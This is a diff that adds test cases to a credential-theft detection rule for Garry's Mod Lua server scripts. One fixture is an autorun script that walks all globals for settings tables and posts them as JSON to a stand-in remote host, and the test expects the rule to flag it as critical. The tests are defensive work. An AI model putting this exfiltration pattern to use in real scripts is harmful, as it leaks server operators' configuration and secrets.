@@ -112,4 +112,31 @@ describe('credential_theft', () => {
     });
     expect(findings).toEqual([]);
   });
+  // Every global walked for tables holding settings, what it found posted or only shown.
+  const globalsWalk = (use: string) => ({
+    'lua/autorun/server/sv_audit.lua': [
+      'local function settingsIn(t)',
+      ' local out = {}',
+      ' for k, v in pairs(t) do if isstring(k) and istable(v) then out[k] = v end end',
+      ' return out',
+      'end',
+      'hook.Add("InitPostEntity", "audit", function()',
+      ' local found = settingsIn(_G)',
+      ` ${use}`,
+      'end)',
+    ].join('\n'),
+  });
+  it('every global walked and what it holds posted to a remote host', () => {
+    const findings = check(
+      rule,
+      globalsWalk(
+        'http.Post("https://audit.example-dash.invalid/in", { ctx = util.TableToJSON(found) })',
+      ),
+    );
+    expect(worst(findings)).toBe(RANK.critical);
+  });
+  it('every global walked and only counted in the console', () => {
+    const findings = check(rule, globalsWalk('print("tables: " .. table.Count(found))'));
+    expect(findings).toEqual([]);
+  });
 });
